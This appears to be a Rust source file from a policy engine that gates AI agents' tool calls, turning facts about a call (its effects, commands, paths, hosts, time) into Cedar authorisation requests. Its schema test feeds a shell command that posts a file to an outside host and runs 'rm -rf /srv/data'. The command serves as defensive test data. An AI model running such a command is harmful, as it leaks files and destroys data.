//! Facts as Cedar sees them: the schema, and the request that is evaluated.

use std::collections::BTreeSet;
use std::str::FromStr as _;

use cedar_policy::{
    Context, EntityId, EntityTypeName, EntityUid, Request, RestrictedExpression, Schema,
};

use crate::facts::PolicyFacts;

/// The schema that `.cedar` files are checked against.
pub const SCHEMA: &str = include_str!("../schema.cedarschema");

/// The schema, and the names of its types.
#[derive(Debug)]
pub struct PolicyTypes {
    pub schema: Schema,
    agent: EntityTypeName,
    tool: EntityTypeName,
    effect: EntityTypeName,
    environment: EntityTypeName,
    day: EntityTypeName,
    action: EntityUid,
}

impl PolicyTypes {
    /// None if the schema of this build is invalid, which a test rules out.
    pub fn new() -> Option<PolicyTypes> {
        let name = |text: &str| EntityTypeName::from_str(text).ok();
        Some(PolicyTypes {
            schema: Schema::from_str(SCHEMA).ok()?,
            agent: name("Agent")?,
            tool: name("Tool")?,
            effect: name("Effect")?,
            environment: name("Environment")?,
            day: name("Day")?,
            action: EntityUid::from_str("Action::\"call\"").ok()?,
        })
    }

    /// The request about a call. Built without the schema check, which costs more than the
    /// evaluation; a test checks requests against the schema.
    pub fn request(&self, facts: &PolicyFacts, checked: bool) -> Option<Request> {
        let context = Context::from_pairs(self.members(facts)).ok()?;
        let schema = checked.then_some(&self.schema);
        let principal = uid(&self.agent, &facts.agent);
        let resource = uid(&self.tool, &facts.tool);
        Request::new(principal, self.action.clone(), resource, context, schema).ok()
    }

    fn members(&self, facts: &PolicyFacts) -> Vec<(String, RestrictedExpression)> {
        let text = |text: &str| RestrictedExpression::new_string(text.to_owned());
        let number = |number: u16| RestrictedExpression::new_long(i64::from(number));
        let flag = RestrictedExpression::new_bool;
        let set = |names: &BTreeSet<String>| {
            RestrictedExpression::new_set(names.iter().map(|name| text(name)))
        };
        let entity = |kind, name: &str| RestrictedExpression::new_entity_uid(uid(kind, name));
        let effects = facts.effects.iter().map(|effect| entity(&self.effect, effect));
        let members = [
            ("agent", text(&facts.agent)),
            ("tool", text(&facts.tool)),
            ("tool_names", set(&facts.tool_names)),
            ("host", text(&facts.host)),
            ("session", text(&facts.session)),
            ("project", text(&facts.project)),
            ("environment", entity(&self.environment, &facts.environment)),
            ("tier", number(facts.tier.into())),
            ("points", number(facts.points)),
            ("confidence", number(facts.confidence.into())),
            ("reversible", flag(facts.reversible)),
            ("crisis", flag(facts.crisis)),
            ("runs_programs", flag(facts.runs_programs)),
            ("effects", RestrictedExpression::new_set(effects)),
            ("findings", set(&facts.findings)),
            ("commands", set(&facts.commands)),
            ("open_commands", set(&facts.open_commands)),
            ("command", set(&facts.command)),
            ("exact_command", text(&facts.exact_command)),
            ("paths", set(&facts.paths)),
            ("paths_within", set(&facts.paths_within)),
            ("path_classes", set(&facts.path_classes)),
            ("hosts", set(&facts.hosts)),
            ("hosts_within", set(&facts.hosts_within)),
            ("recipients", set(&facts.recipients)),
            ("recipients_within", set(&facts.recipients_within)),
            ("unclear", set(&facts.unclear)),
            ("hour", number(facts.hour.into())),
            ("weekday", entity(&self.day, facts.weekday)),
        ];
        members.into_iter().map(|(name, value)| (name.to_owned(), value)).collect()
    }
}

fn uid(kind: &EntityTypeName, name: &str) -> EntityUid {
    EntityUid::from_type_name_and_id(kind.clone(), EntityId::new(name))
}

#[cfg(test)]
mod tests {
    use countersign_risk::assess::assess;
    use countersign_risk::call::Call;
    use countersign_risk::effect::{Effect, Effects};
    use countersign_risk::verdict::Policy;

    use super::*;
    use crate::facts::CallTime;

    #[test]
    fn the_facts_of_a_call_fit_the_schema() {
        let types = PolicyTypes::new().unwrap();
        let every = [
            Effect::Read,
            Effect::Write,
            Effect::Delete,
            Effect::Exec,
            Effect::NetOut,
            Effect::NetIn,
            Effect::Privilege,
            Effect::Persist,
            Effect::Publish,
            Effect::Service,
            Effect::Send,
            Effect::Money,
            Effect::Secret,
            Effect::SelfChange,
            Effect::Delegate,
            Effect::Remote,
            Effect::Crisis,
        ];
        for weekday in 0..7 {
            let call = Call::shell("curl -d @a https://example.com; rm -rf /srv/data; $X");
            let mut seen = assess(&call, &Policy::default());
            seen.effects = Effects::of(&every);
            let facts = PolicyFacts::new(&call, &seen, false, CallTime { hour: 3, weekday });
            assert!(types.request(&facts, true).is_some(), "{facts:?}");
        }
    }
}
